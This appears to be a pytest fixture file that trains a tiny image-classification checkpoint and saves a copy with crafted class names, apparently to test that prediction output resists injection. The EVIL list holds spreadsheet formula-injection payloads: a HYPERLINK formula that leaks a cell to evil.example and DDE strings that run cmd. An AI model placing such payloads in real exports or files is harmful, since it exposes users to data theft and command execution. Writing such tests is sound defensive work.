"""A tiny trained image model for the tests of what reads a checkpoint (dan predict, output
checks): global fixtures (tests/conftest.py's pytest_plugins)."""
import pytest
import torch

from dan.config import TrainConfig
from dan.runs.checkpoint import CHECKPOINT
from dan.trainer import train
from image_helpers import write_domain

EVIL = ['=HYPERLINK("http://evil.example/?leak="&A1,"cat")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    """A tiny efficientnet_lite0 run (random weights, one step) on 3 classes, 224-pixel crops so that
    predicting a few dozen images takes a moment; and the same checkpoint with crafted class names."""
    root = tmp_path_factory.mktemp("predict")
    images = write_domain(root / "images", per_class=4)
    train(TrainConfig(source=f"folder:{images}", target=f"folder:{images}", backbone="efficientnet_lite0",
                      weights="none", batch_size=4, iters_per_epoch=1, epochs=1, workers=0, out=str(root / "run")),
          progress=False)
    ck = torch.load(root / "run" / CHECKPOINT, weights_only=True)
    ck["classes"] = EVIL
    torch.save(ck, root / "evil.pt")
    return root
